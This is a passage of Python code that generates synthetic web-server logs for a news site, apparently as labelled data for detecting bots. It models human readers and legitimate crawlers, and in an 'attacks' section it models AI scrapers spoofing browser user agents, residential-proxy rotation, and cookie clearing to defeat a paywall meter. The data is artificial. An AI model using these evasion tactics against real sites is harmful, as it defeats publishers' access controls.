                "breaking" if spike_bias else r.choice(["morning", "evening", "sport"])
            )
        elif source == "direct":
            kind = "home"
        elif source == "section":
            kind = "section"
        elif source == "whatsapp":
            ref = None
        if kind == "home":
            path, art = "/", None
        elif kind == "section":
            sec = r.choice(SECTIONS[:8])[0]
            path, art = "/%s/" % sec, None
        else:
            path = art.amp if amp else art.path
        if npages is None:
            x = r.random()
            npages = (
                1
                if x < 0.65
                else 2
                if x < 0.85
                else 3
                if x < 0.93
                else r.randint(4, 6)
                if x < 0.98
                else r.randint(7, 14)
            )
            if kind != "article":
                npages += 1
        # Chrome's private prefetch proxy: a Google search result fetched ahead from Google's address
        if source == "search" and v["fam"] == "android" and not amp and r.random() < 0.12:
            self.emit(
                t - r.uniform(2, 40),
                self.net.addr("66.102.0.0/20", "LHR61-P2"),
                "GET",
                path,
                None,
                200,
                "https://www.google.com/",
                v["ua"],
                None,
                "html",
                label,
                "chrome_prefetch_proxy",
                "prefetchproxy",
            )
            t += 0.01
        for p in range(npages):
            if r.random() < 0.04:  # CGNAT can change the public address between connections
                ip = self.net_ip(v, t, office)
            if art is not None and art.live:
                end, _ = self.page(t, v, ip, path, query, ref, actor_class, label, kind="live", art=art)
                t = self.liveblog_poll(end, v, ip, art, actor_class, label)
            else:
                st = 200
                if kind == "article" and r.random() < 0.004:
                    st = 404
                end, paywalled = self.page(
                    t,
                    v,
                    ip,
                    path,
                    query,
                    ref,
                    actor_class,
                    label,
                    kind=kind,
                    art=art,
                    amp=amp,
                    prefetch_ok=True,
                    status=st,
                )
                if paywalled == "error":  # the origin timed out (504): reload once, or give up
                    if r.random() < 0.4:
                        return
                    end, paywalled = self.page(
                        end, v, ip, path, query, ref, actor_class, label, kind=kind, art=art, amp=amp, status=st
                    )
                    if paywalled == "error":
                        return
                if paywalled and r.random() < 0.05:
                    t = end + r.lognormvariate(2.5, 0.6)
                    self.page(
                        t,
                        v,
                        ip,
                        "/subscribe",
                        "source=paywall&aid=%d" % art.aid,
                        "https://%s%s" % (SITE, path),
                        actor_class,
                        label,
                        kind="other",
                    )
                    return
                if paywalled and r.random() < 0.7:
                    return
                if kind == "article" and r.random() < 0.08:  # scrolls to comments
                    self.emit(
                        end + r.lognormvariate(3.5, 0.7),
                        ip,
                        "GET",
                        "/api/comments",
                        "aid=%d&page=1" % art.aid,
                        200,
                        "https://%s%s" % (SITE, path),
                        v["ua"],
                        self.cookie(v, t),
                        "json",
                        label,
                        actor_class,
                        v["id"],
                    )
                dwell = (
                    r.lognormvariate(math.log(55), 0.9) if kind == "article" else r.lognormvariate(math.log(12), 0.8)
                )
                t = end + min(dwell, 1200)
            if p == npages - 1:
                break
            ref = "https://%s%s" % (SITE, path)
            query = None
            amp = False
            x = r.random()
            if x < 0.08 and p < npages - 1:
                kind, path, art = "search", "/search", None
                q = r.choice(SEARCH_TERMS)
                st_q = "q=" + q.replace(" ", "+")
                end, _ = self.page(t, v, ip, path, st_q, ref, actor_class, label, kind="section")
                t = end + r.lognormvariate(math.log(8), 0.6)
                ref = "https://%s/search?%s" % (SITE, st_q)
                kind, art = "article", self.pick_article(t, spike_bias)
                path = art.path
            elif x < 0.62:
                kind, art = "article", self.pick_article(t, spike_bias)
                path = art.path
            elif x < 0.85:
                kind, path, art = "home", "/", None
            else:
                kind, art = "section", None
                path = "/%s/" % r.choice(SECTIONS)[0]

    def liveblog_poll(self, t, v, ip, art, actor_class, label):
        r = self.rng
        stay = min(r.lognormvariate(math.log(120), 1.0), 3600)
        tt = t
        since = int(t)
        while tt < t + stay:
            tt += r.uniform(59.0, 61.5)  # the live blog's page asks for updates every minute
            self.emit(
                tt,
                ip,
                "GET",
                "/api/live/%d/updates" % art.aid,
                "since=%d" % since,
                200,
                "https://%s%s" % (SITE, art.path),
                v["ua"],
                self.cookie(v, tt),
                "json",
                label,
                actor_class,
                v["id"],
            )
            since = int(tt)
        return tt + r.uniform(2, 20)

    # ---- subscribers
    def subscriber_visit(self, t, s, office=None):
        r = self.rng
        ip = self.net_ip(s, t, office)
        cls, label = "subscriber", "normal"
        if s["session"] and t > s["sess_exp"]:
            s["session"] = None
        if not s["session"] or r.random() < 0.03:
            # log in: land on the login page (from a paywall or the masthead link)
            s["session"] = None
            end, _ = self.page(t, s, ip, "/account/login", "next=%2F", None, cls, label, kind="other")
            t = end + r.lognormvariate(math.log(14), 0.5)
            fails = 0
            x = r.random()
            if x < 0.11:
                fails = 1
            elif x < 0.14:
                fails = 2
            elif x < 0.155:
                fails = r.randint(3, 5)
            for i in range(fails):
                self.emit(
                    t,
                    ip,
                    "POST",
                    "/account/login",
                    None,
                    200,
                    "https://%s/account/login?next=%%2F" % SITE,
                    s["ua"],
                    self.cookie(s, t),
                    "html",
                    label,
                    cls,
                    s["id"],
                    r.randint(9200, 9800),
                    "Miss",
                )
                t += r.lognormvariate(math.log(12), 0.6)
            if fails >= 3 and r.random() < 0.7:
                end, _ = self.page(
                    t, s, ip, "/account/forgot", None, "https://%s/account/login" % SITE, cls, label, kind="other"
                )
                t = end + r.uniform(15, 40)
                self.emit(
                    t,
                    ip,
                    "POST",
                    "/account/forgot",
                    None,
                    302,
                    "https://%s/account/forgot" % SITE,
                    s["ua"],
                    self.cookie(s, t),
                    "html",
                    label,
                    cls,
                    s["id"],
                    420,
                    "Miss",
                )
                return  # comes back later from the e-mail
            self.emit(
                t,
                ip,
                "POST",
                "/account/login",
                None,
                302,
                "https://%s/account/login?next=%%2F" % SITE,
                s["ua"],
                self.cookie(s, t),
                "html",
                label,
                cls,
                s["id"],
                610,
                "Miss",
            )
            s["session"] = self.hexs(32)
            s["sess_exp"] = t + 30 * 86400
            t += r.uniform(0.5, 1.5)
            ref = "https://%s/account/login?next=%%2F" % SITE
            path, kind, art = "/", "home", None
        else:
            x = r.random()
            if x < 0.45:
                path, kind, art, ref = "/", "home", None, None
            else:
                art = self.pick_article(t, 0.4 if self.is_spike(t) else 0)
                path, kind = art.path, "article"
                ref = r.choice([None, "https://www.google.com/", None])
        npages = max(1, int(r.lognormvariate(math.log(3.5), 0.7)))
        for p in range(npages):
            if art is not None and art.live:
                end, _ = self.page(t, s, ip, path, None, ref, cls, label, kind="live", art=art)
                t = self.liveblog_poll(end, s, ip, art, cls, label)
            else:
                end, _ = self.page(t, s, ip, path, None, ref, cls, label, kind=kind, art=art, prefetch_ok=True)
                t = end
                if kind == "article" and s["commenter"] and r.random() < 0.15:
                    self.emit(
                        t + r.lognormvariate(4, 0.6),
                        ip,
                        "GET",
                        "/api/comments",
                        "aid=%d&page=1" % art.aid,
                        200,
                        "https://%s%s" % (SITE, path),
                        s["ua"],
                        self.cookie(s, t),
                        "json",
                        label,
                        cls,
                        s["id"],
                    )
                    t += r.lognormvariate(math.log(120), 0.6)
                    self.emit(
                        t,
                        ip,
                        "POST",
                        "/api/comments",
                        "aid=%d" % art.aid,
                        201,
                        "https://%s%s" % (SITE, path),
                        s["ua"],
                        self.cookie(s, t),
                        "json",
                        label,
                        cls,
                        s["id"],
                        r.randint(380, 900),
                        "Miss",
                    )
                dwell = (
                    r.lognormvariate(math.log(70), 0.9) if kind == "article" else r.lognormvariate(math.log(15), 0.8)
                )
                t += min(dwell, 1500)
            ref = "https://%s%s" % (SITE, path)
            if r.random() < 0.7:
                art = self.pick_article(t, 0.5 if self.is_spike(t) else 0)
                path, kind = art.path, "article"
            else:
                path, kind, art = "/", "home", None
        if r.random() < 0.02:
            self.emit(
                t,
                ip,
                "GET",
                "/account/logout",
                None,
                302,
                ref,
                s["ua"],
                self.cookie(s, t),
                "html",
                label,
                cls,
                s["id"],
                400,
                "Miss",
            )
            s["session"] = None

    def is_spike(self, t):
        s = self.t0 + SPIKE_DAY * 86400 + SPIKE_T
        return s <= t < s + 10 * 3600

    # ---- a day of readers
    def readers_day(self, d):
        r = self.rng
        day0 = self.t0 + d * 86400
        weekday = (TRAIN_START + dt.timedelta(days=d)).weekday()
        weekend = weekday >= 5
        hours = (
            [
                1.2,
                0.6,
                0.4,
                0.3,
                0.4,
                0.9,
                2.6,
                4.6,
                5.0,
                4.0,
                3.4,
                3.3,
                4.0,
                3.8,
                3.2,
                3.1,
                3.4,
                3.8,
                4.2,
                4.8,
                5.2,
                4.8,
                3.4,
                2.1,
            ]
            if not weekend
            else [
                1.5,
                0.8,
                0.5,
                0.4,
                0.4,
                0.6,
                1.2,
                2.2,
                3.4,
                4.4,
                4.8,
                4.4,
                4.0,
                3.6,
                3.4,
                3.3,
                3.3,
                3.5,
                4.0,
                4.6,
                5.0,
                4.6,
                3.6,
                2.4,
            ]
        )
        n = int((READERS_WEEKDAY if not weekend else READERS_WEEKDAY * 0.85) * self.scale * r.uniform(0.93, 1.07))
        htot = sum(hours)
        # newsletter sent 06:30, pushes 07:45 and 17:30
        for i in range(n):
            x = r.random()
            if x < 0.06 and not (weekend and weekday == 6):
                t = day0 + 6.5 * 3600 + r.expovariate(1 / 3000.0)
                source = "newsletter"
            elif x < 0.12:
                t = day0 + r.choice([7.75, 17.5]) * 3600 + r.expovariate(1 / 500.0)
                source = "push"
            else:
                h = r.choices(range(24), weights=hours)[0]
                t = day0 + h * 3600 + r.random() * 3600
                source = r.choices(
                    ["search", "discover", "social", "direct", "section", "whatsapp"], weights=[33, 9, 24, 24, 4, 3]
                )[0]
            if t >= day0 + 86400:
                t = day0 + 86400 - r.uniform(1, 600)
            self.one_reader(t, source, weekend)
        # office readers (corporate NAT, managed browser build)
        if not weekend:
            for name, (cidr, k, ua, per_day) in OFFICES.items():
                for i in range(int(per_day * self.scale * r.uniform(0.85, 1.15))):
                    h = r.choices(range(8, 18), weights=[3, 4, 2, 2, 2, 6, 5, 2, 2, 2])[0]
                    t = day0 + h * 3600 + r.random() * 3600
                    v = self.office_visitor(name, ua)
                    self.visit(
                        t,
                        v,
                        r.choice(["direct", "direct", "search", "newsletter", "section"]),
                        actor_class="office_reader",
                        office=name,
                    )
        # subscribers
        for s in self.subs:
            if r.random() < s["daily"] * (0.9 if weekend else 1.0):
                h = r.choices(range(24), weights=hours)[0]
                t = day0 + h * 3600 + r.random() * 3600
                office = None
                if not weekend and 8 <= h < 17 and s["dev"] == "desktop" and r.random() < 0.25:
                    office = r.choice(list(OFFICES))
                self.subscriber_visit(t, s, office)
        if d == SPIKE_DAY:
            self.spike_day(day0)

    def office_visitor(self, name, ua):
        r = self.rng
        key = (name, r.randrange(int(OFFICES[name][3] * 1.6) + 1))
        if not hasattr(self, "_office_people"):
            self._office_people = {}
        v = self._office_people.get(key)
        if v is None:
            v = self.make_visitor(known=r.random() < 0.8, desktop_share=1.0)
            v["ua"], v["fam"] = ua, "chrome"
            self._office_people[key] = v
        return v

    def one_reader(self, t, source, weekend, spike_bias=0.0):
        r = self.rng
        cls = "reader"
        if source == "social" and r.random() < 0.8:
            # in-app browser: its own cookie jar, usually empty
            v = self.make_visitor(known=False)
            if v["dev"] == "mobile":
                v["ua"] = (
                    fb_ios(r)
                    if v["fam"] == "ios" and r.random() < 0.6
                    else insta_ios(r)
                    if v["fam"] == "ios"
                    else fb_android(r)
                )
            cls = "inapp_reader"
        elif source == "discover" and r.random() < 0.5:
            v = self.pick_visitor() if r.random() < 0.5 else self.make_visitor(known=False)
            if v["fam"] == "ios":
                v = dict(v)
                v["ua"] = gsa_ios(r)
        elif r.random() < 0.52:
            v = self.pick_visitor()
        else:
            v = self.make_visitor(known=False)  # new, private mode or cleared cookies
        if cls == "reader" and v["dev"] == "mobile":
            cls = "mobile_reader"
        if spike_bias:
            cls = "spike_" + cls
        self.visit(t, v, source, actor_class=cls, spike_bias=spike_bias)

    def spike_day(self, day0):
        """Breaking news: ~4x the day's usual readers again, on the story."""
        r = self.rng
        s = day0 + SPIKE_T
        n = int(4 * READERS_WEEKDAY * self.scale)
        for i in range(n):
            x = r.random()
            if x < 0.30:
                t = s + 7 * 60 + r.expovariate(1 / 900.0)  # the breaking push at 14:12
                source = "push"
            else:
                t = s + 5 * 60 + r.expovariate(1 / 9000.0)
                source = r.choices(["social", "search", "direct", "whatsapp", "discover"], weights=[40, 20, 20, 12, 8])[
                    0
                ]
            if t >= day0 + 86400:
                t = day0 + 86400 - r.uniform(1, 900)
            h = int((t - day0) // 3600)
            office = None
            if 14 <= h < 17 and r.random() < 0.06:
                name = r.choice(list(OFFICES))
                v = self.office_visitor(name, OFFICES[name][2])
                self.visit(
                    t,
                    v,
                    source if source != "whatsapp" else "direct",
                    actor_class="spike_office_reader",
                    spike_bias=0.85,
                    office=name,
                    npages=r.choice([1, 1, 2, 3]),
                )
                continue
            self.one_reader(t, source, False, spike_bias=0.9)
        # link previews of the story: WhatsApp (from the sharer's phone), Facebook, X, Slack
        for i in range(int(1500 * self.scale)):
            t = s + 5 * 60 + r.expovariate(1 / 7000.0)
            if t < day0 + 86400:
                self.link_preview(t, r.choice(self.spike[:3] + self.spike[:1]), spike=True)

    def training_liveblog(self, day0, start_h, hours, aid, slug, readers):
        """(--training-liveblogs) an ordinary live blog in the training week: a Saturday match, a council
        budget meeting; readers open it and its page polls /api/live/ID/updates every minute."""
        r = self.rng
        art = Article(aid, "news/live", slug, day0 + start_h * 3600, False, 0, 1, live=True)
        for i in range(int(readers * self.scale)):
            t = art.pub + r.random() * hours * 3600
            if r.random() < 0.5:
                v = self.pick_visitor()
            else:
                v = self.make_visitor(known=False)
            cls = "liveblog_reader"
            ip = self.net_ip(v, t)
            ref = r.choice([None, "https://www.google.com/", "http://m.facebook.com/", "https://%s/" % SITE])
            end, _ = self.page(t, v, ip, art.path, None, ref, cls, "normal", kind="live", art=art)
            t = self.liveblog_poll(end, v, ip, art, cls, "normal")
            if r.random() < 0.3:
                a2 = self.pick_article(t)
                self.page(
                    t, v, ip, a2.path, None, "https://%s%s" % (SITE, art.path), cls, "normal", kind="article", art=a2
                )

    # ---- legitimate automation
    def bots_day(self, d):
        r = self.rng
        day0 = self.t0 + d * 86400
        arts_today = [a for a in self.articles if day0 - 3 * 86400 <= a.pub < day0 + 86400]
        # Googlebot (smartphone + desktop), incl. Googlebot-Image
        gb_m = (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/142.0.7444.59 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
        )
        gb_d = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
        gbi = "Googlebot-Image/1.0"
        gips = (
            ["66.249.66.%d" % i for i in range(1, 200, 7)]
            + ["66.249.68.%d" % i for i in range(1, 90, 11)]
            + ["66.249.79.%d" % i for i in range(1, 250, 13)]
        )
        for ip in gips:
            self.net.edge_of[ip] = "IAD89-C2" if ip.startswith("66.249.66") else "ATL56-C1"
        k = int(2000 * self.scale * r.uniform(0.85, 1.15)) + (1500 if d == SPIKE_DAY else 0)
        for i in range(k):
            t = day0 + r.random() * 86400
            x = r.random()
            ua = gb_m if r.random() < 0.8 else gb_d
            ip = r.choice(gips)
            if x < 0.04:
                self.emit(
                    t,
                    ip,
                    "GET",
                    r.choice(["/sitemaps/news.xml", "/sitemap.xml", "/robots.txt"]),
                    None,
                    200,
                    None,
                    ua,
                    None,
                    "xml",
                    "normal",
                    "googlebot",
                    "googlebot",
                    proto="HTTP/1.1",
                )
            elif x < 0.2:
                a = r.choice(self.articles[: len(self.articles) - 10])
                self.emit(
                    t,
                    ip,
                    "GET",
                    "/images/%d/lead-0-1200w.jpg" % a.aid,
                    None,
                    200,
                    None,
                    gbi,
                    None,
                    "img",
                    "normal",
                    "googlebot",
                    "googlebot",
                    proto="HTTP/1.1",
                )
            elif x < 0.5 and arts_today:
                a = r.choice(arts_today)
                if a.pub <= t:
                    self.emit(
                        t,
                        ip,
                        "GET",
                        a.amp if r.random() < 0.2 else a.path,
                        None,
                        200,
                        None,
                        ua,
                        None,
                        "html",
                        "normal",
                        "googlebot",
                        "googlebot",
                        proto="HTTP/1.1",
                    )
            elif x < 0.56 and d == SPIKE_DAY and t > self.spike[0].pub:
                self.emit(
                    t,
                    ip,
                    "GET",
                    self.spike[0].path,
                    None,
                    200,
                    None,
                    ua,
                    None,
                    "html",
                    "normal",
                    "googlebot",
                    "googlebot",
                    proto="HTTP/1.1",
                )
            else:
                hi = bisect.bisect_right(self.pubs, t)
                a = self.articles[r.randrange(max(1, hi))]
                path = a.path if r.random() < 0.85 else "/%s/" % a.section
                st = 200 if r.random() > 0.01 else 301
                self.emit(
                    t,
                    ip,
                    "GET",
                    path,
                    None,
                    st,
                    None,
                    ua,
                    None,
                    "html",
                    "normal",
                    "googlebot",
                    "googlebot",
                    proto="HTTP/1.1",
                )
        # Bingbot
        bb = (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
            "Chrome/116.0.1938.76 Safari/537.36"
        )
        bips = (
            ["157.55.39.%d" % i for i in range(10, 250, 9)]
            + ["207.46.13.%d" % i for i in range(5, 200, 13)]
            + ["40.77.167.%d" % i for i in range(2, 90, 8)]
        )
        for ip in bips:
            self.net.edge_of[ip] = "IAD89-C2"
        for i in range(int(700 * self.scale * r.uniform(0.8, 1.2))):
            t = day0 + r.random() * 86400
            hi = bisect.bisect_right(self.pubs, t)
            a = self.articles[r.randrange(max(1, hi))]
            path = r.choice([a.path, a.path, a.path, "/robots.txt", "/sitemap.xml", "/%s/" % a.section])
            self.emit(
                t,
                r.choice(bips),
                "GET",
                path,
                None,
                200,
                None,
                bb,
                None,
                "html",
                "normal",
                "bingbot",
                "bingbot",
                proto="HTTP/1.1",
            )
        # Applebot
        ab = (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
            "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)"
        )
        aips = ["17.241.219.%d" % i for i in range(2, 250, 17)] + ["17.246.15.%d" % i for i in range(3, 200, 19)]
        for ip in aips:
            self.net.edge_of[ip] = "SFO53-P4"
        for i in range(int(250 * self.scale * r.uniform(0.8, 1.2))):
            t = day0 + r.random() * 86400
            hi = bisect.bisect_right(self.pubs, t)
            a = self.articles[max(0, hi - 1 - int(r.expovariate(1 / 60.0)))]
            self.emit(
                t,
                r.choice(aips),
                "GET",
                a.path,
                None,
                200,
                None,
                ab,
                None,
                "html",
                "normal",
                "applebot",
                "applebot",
                proto="HTTP/1.1",
            )
        # link previews when stories are shared
        for i in range(int(420 * self.scale * r.uniform(0.8, 1.2))):
            t = (
                day0
                + r.choices(
                    range(24), weights=[1, 1, 0, 0, 0, 1, 3, 5, 5, 4, 4, 4, 4, 4, 4, 4, 4, 4, 5, 5, 5, 4, 3, 2]
                )[0]
                * 3600
                + r.random() * 3600
            )
            self.link_preview(t, self.pick_article(t))
        # RSS readers: Feedly (cloud) and a self-hosted FreshRSS on a home line
        for feed, ua, ip, every in (
            ("feedly", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 412 subscribers; )", "feedly", 1500),
            ("freshrss", "FreshRSS/1.25.0 (Linux; https://freshrss.org)", "fresh", 1800),
        ):
            if not hasattr(self, "_rss_ip"):
                self._rss_ip = {
                    "feedly": [self.net.addr(CLOUD["aws_virginia"][0], "IAD89-C2") for _ in range(3)],
                    "fresh": [self.net.addr("81.96.0.0/13", "MAN51-P1")],
                }
            t = day0 + r.uniform(0, every)
            while t < day0 + 86400:
                for path in (
                    ["/rss/news.xml", "/rss/sport.xml", "/rss/whats-on.xml"] if feed == "feedly" else ["/rss/news.xml"]
                ):
                    self.emit(
                        t + r.uniform(0, 3),
                        r.choice(self._rss_ip[ip]),
                        "GET",
                        path,
                        None,
                        200 if r.random() < 0.7 else 304,
                        None,
                        ua,
                        None,
                        "xml",
                        "normal",
                        "rss_reader",
                        feed,
                        proto="HTTP/1.1",
                    )
                t += every * r.uniform(0.9, 1.1)
        # uptime monitor: HEAD / and GET /api/health every 5 minutes from its probe sites
        um = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
        if not hasattr(self, "_um_ip"):
            self._um_ip = ["69.162.124.226", "69.162.124.227", "216.144.250.150", "216.144.248.20"]
            for ip in self._um_ip:
                self.net.edge_of[ip] = "DFW56-P1"
        t = day0 + 17.0
        while t < day0 + 86400:
            ip = r.choice(self._um_ip)
            self.emit(
                t + r.uniform(0, 1.5),
                ip,
                "HEAD",
                "/",
                None,
                200,
                None,
                um,
                None,
                "html",
                "normal",
                "uptime_monitor",
                "uptimerobot",
                0,
                "Miss",
                "HTTP/1.1",
            )
            self.emit(
                t + r.uniform(2, 4),
                ip,
                "GET",
                "/api/health",
                None,
                200,
                None,
                um,
                None,
                "json",
                "normal",
                "uptime_monitor",
                "uptimerobot",
                57,
                "Miss",
                "HTTP/1.1",
            )
            t += 300
        # partner syndication client
        if not hasattr(self, "_partner_ip"):
            self._partner_ip = self.net.addr(CLOUD["aws_london"][0], "LHR61-P2")
        pua = "python-requests/2.32.3"
        key = "pk_live_8f2c61d0a94b4e7c"
        t = day0 + 60 + r.uniform(0, 5)
        last = day0 - 600
        while t < day0 + 86400:
            since = dt.datetime.fromtimestamp(last, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
            self.emit(
                t,
                self._partner_ip,
                "GET",
                "/api/partner/v2/articles",
                "since=%s&page=1&api_key=%s" % (since, key),
                200,
                None,
                pua,
                None,
                "json",
                "normal",
                "partner_api",
                "partner",
                r.randint(900, 40000),
                "Miss",
                "HTTP/1.1",
            )
            lo, hi = bisect.bisect_left(self.pubs, last), bisect.bisect_left(self.pubs, t)
            for a in self.articles[lo:hi]:
                tt = t + r.uniform(0.3, 2.0)
                self.emit(
                    tt,
                    self._partner_ip,
                    "GET",
                    "/api/partner/v2/articles/%d" % a.aid,
                    "api_key=%s" % key,
                    200,
                    None,
                    pua,
                    None,
                    "json",
                    "normal",
                    "partner_api",
                    "partner",
                    r.randint(6000, 30000),
                    "Miss",
                    "HTTP/1.1",
                )
                self.emit(
                    tt + r.uniform(0.2, 1.0),
                    self._partner_ip,
                    "GET",
                    "/images/%d/lead-0-1200w.jpg" % a.aid,
                    None,
                    200,
                    None,
                    pua,
                    None,
                    "img",
                    "normal",
                    "partner_api",
                    "partner",
                    None,
                    None,
                    "HTTP/1.1",
                )
            last = t
            t += 600 + r.uniform(-3, 3)
        # e-mail link scanners (Microsoft Defender Safe Links) checking the morning newsletter's links
        if (TRAIN_START + dt.timedelta(days=d)).weekday() != 6:
            links = [self.pick_article(day0 + 6 * 3600) for _ in range(12)]
            for i in range(int(45 * self.scale)):
                t = day0 + 6.5 * 3600 + r.expovariate(1 / 1200.0)
                ip = (
                    self.net.addr("40.94.0.0/20", "LHR50-C1")
                    if r.random() < 0.6
                    else self.net.addr("52.101.0.0/18", "DUB56-P1")
                )
                ua = WIN_CHROME.format(v=r.choice([130, 131, 141]))
                for a in r.sample(links, r.randint(2, 6)):
                    self.emit(
                        t + r.uniform(0, 4),
                        ip,
                        "GET",
                        a.path,
                        "utm_source=newsletter&utm_medium=email&utm_campaign=morning-briefing",
                        200,
                        None,
                        ua,
                        None,
                        "html",
                        "normal",
                        "email_link_scanner",
                        "safelinks",
                        proto="HTTP/1.1",
                    )

    def link_preview(self, t, a, spike=False):
        r = self.rng
        x = r.random()
        if x < 0.45:  # WhatsApp: the sharer's own phone fetches the preview
            v = self.make_visitor(known=False)
            ip = self.net_ip(v, t) if v["dev"] == "mobile" else v["home"]
            ua = r.choice(["WhatsApp/2.24.22.79 i", "WhatsApp/2.24.21.88 A", "WhatsApp/2.24.23.76 A"])
            self.emit(
                t,
                ip,
                "GET",
                a.path,
                None,
                200,
                None,
                ua,
                None,
                "html",
                "normal",
                "link_preview",
                "whatsapp",
                proto="HTTP/1.1",
            )
            self.emit(
                t + r.uniform(0.3, 1.5),
                ip,
                "GET",
                "/images/%d/lead-0-1200w.jpg" % a.aid,
                None,
                200,
                None,
                ua,
                None,
                "img",
                "normal",
                "link_preview",
                "whatsapp",
                proto="HTTP/1.1",
            )
        elif x < 0.8:
            ip = r.choice(
                ["69.171.249.%d" % i for i in range(1, 250, 12)]
                + ["173.252.83.%d" % i for i in range(1, 250, 15)]
                + ["31.13.103.%d" % i for i in range(1, 250, 30)]
            )
            self.net.edge_of.setdefault(ip, "IAD89-C2")
            ua = "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"
            for j in range(r.choice([1, 1, 2])):
                self.emit(
                    t + j * r.uniform(0.5, 30),
                    ip,
                    "GET",
                    a.path,
                    r.choice([None, "fbclid=IwAR" + self.tok(30)]) if j else None,
                    200,
                    None,
                    ua,
                    None,
                    "html",
                    "normal",
                    "link_preview",
                    "facebookexternalhit",
                    proto="HTTP/1.1",
                )
            self.emit(
                t + r.uniform(0.5, 3),
                ip,
                "GET",
                "/images/%d/lead-0-1200w.jpg" % a.aid,
                None,
                200,
                None,
                ua,
                None,
                "img",
                "normal",
                "link_preview",
                "facebookexternalhit",
                proto="HTTP/1.1",
            )
        elif x < 0.92:
            ip = "199.16.157.%d" % r.randrange(170, 190)
            self.net.edge_of.setdefault(ip, "SFO53-P4")
            self.emit(
                t,
                ip,
                "GET",
                a.path,
                None,
                200,
                None,
                "Twitterbot/1.0",
                None,
                "html",
                "normal",
                "link_preview",
                "twitterbot",
                proto="HTTP/1.1",
            )
        else:
            if not hasattr(self, "_slack_ip"):
                self._slack_ip = [self.net.addr(CLOUD["aws_virginia"][0], "IAD89-C2") for _ in range(8)]
            self.emit(
                t,
                r.choice(self._slack_ip),
                "GET",
                a.path,
                None,
                200,
                None,
                "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                None,
                "html",
                "normal",
                "link_preview",
                "slackbot",
                proto="HTTP/1.1",
            )

    # ---- attacks
    def ai_scraper_cloud(self, day0, start_h, hours, workers, per_worker, clouds, label="ai_scraper_cloud"):
        """LLM-training scrapers claiming to be desktop Chrome from cloud addresses: article HTML only,
        walking the sitemaps and the archive, no assets, no meter calls."""
        r = self.rng
        uas = [WIN_CHROME.format(v=v) for v in (142, 141, 140)] + [
            MAC_CHROME.format(v=142),
            WIN_EDGE.format(v=142),
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.7444.135 Safari/537.36",
        ]
        hi = bisect.bisect_left(self.pubs, day0)
        pool = self.articles[:hi]
        for w in range(workers):
            cl = r.choice(clouds)
            ip = self.net.addr(CLOUD[cl][0], CLOUD[cl][1])
            ua = r.choice(uas)
            actor = self.new_actor("aicl")
            keeps_cookies = r.random() < 0.3
            jar = None
            t = day0 + start_h * 3600 + r.uniform(0, 1800)
            end = t + hours * 3600
            month = r.choice(["2026-08", "2026-09", "2026-10", "2026-11"])
            self.emit(
                t,
                ip,
                "GET",
                "/robots.txt" if w % 3 == 0 else "/sitemap.xml",
                None,
                200,
                None,
                ua,
                None,
                "xml",
                label,
                label,
                actor,
                proto="HTTP/1.1",
            )
            self.emit(
                t + r.uniform(1, 3),
                ip,
                "GET",
                "/sitemaps/articles-%s.xml" % month,
                None,
                200,
                None,
                ua,
                None,
                "xml",
                label,
                label,
                actor,
                proto="HTTP/1.1",
            )
            i = r.randrange(len(pool))
            n = 0
            while t < end and n < per_worker:
                t += r.uniform(1.2, 7.5) if r.random() < 0.95 else r.uniform(20, 90)
                x = r.random()
                if x < 0.05:
                    dd = dt.datetime.fromtimestamp(pool[i].pub, dt.timezone.utc)
                    path = "/archive/%04d/%02d/%02d/" % (dd.year, dd.month, dd.day)
                    q = "page=%d" % r.randint(2, 6) if r.random() < 0.5 else None
                else:
                    a = pool[i]
                    i = (i + r.choice([1, 1, 1, 2, 3])) % len(pool)
                    path, q = (a.amp if r.random() < 0.1 else a.path), None
                ck = None
                if keeps_cookies and jar:
                    ck = "rn_vid=%s; rn_meter=%d.2026-11" % jar
                st = 200 if r.random() > 0.01 else 404
                nbytes = r.randint(13000, 16500) if (jar and jar[1] >= 5) else None
                self.emit(
                    t, ip, "GET", path, q, st, None, ua, ck, "html", label, label, actor, nbytes, proto="HTTP/1.1"
                )
                if keeps_cookies:
                    jar = (jar[0], jar[1] + 1) if jar else (self.tok(22), 1)
                n += 1

    def ai_scraper_resi(self, day0, start_h, hours, total, label="ai_scraper_residential"):
        """The same crawl through a residential proxy network: a new home address every 1-4 requests."""
        r = self.rng
        uas = [u for u, _, _ in DESKTOP_UAS] + [u for u, _, _ in MOBILE_UAS[:6]]
        hi = bisect.bisect_left(self.pubs, day0)
        pool = self.articles[:hi]
        tot_w = sum(w for _, _, w in RESI_WORLD)
        t = day0 + start_h * 3600
        end = t + hours * 3600
        i = r.randrange(len(pool))
        n = 0
        actor = self.new_actor("airs")
        while t < end and n < total:
            x = r.random() * tot_w
            for cidr, edge, w in RESI_WORLD:
                x -= w
                if x <= 0:
                    break
            ip = self.net.addr(cidr, edge)
            ua = r.choice(uas)
            for k in range(r.choice([1, 1, 1, 2, 2, 3, 4])):
                a = pool[i]
                i = (i + 1) % len(pool)
                self.emit(
                    t,
                    ip,
                    "GET",
                    a.path,
                    None,
                    200,
                    r.choice([None, None, None, "https://www.google.com/"]),
                    ua,
                    None,
                    "html",
                    label,
                    label,
                    actor,
                )
                t += r.uniform(0.8, 4.0)
                n += 1
            t += r.expovariate(1 / 3.0)

    def paywall_bypass(self, day0, label="paywall_bypass"):
        """A scraper republishing subscriber content: a browser's agent from a home line, article HTML,
        its cookies cleared every few articles so that the meter never runs out."""
        r = self.rng
        if not hasattr(self, "_pb"):
            self._pb = {
                "ip": self.net.addr("86.0.0.0/12", "MAN51-P1"),
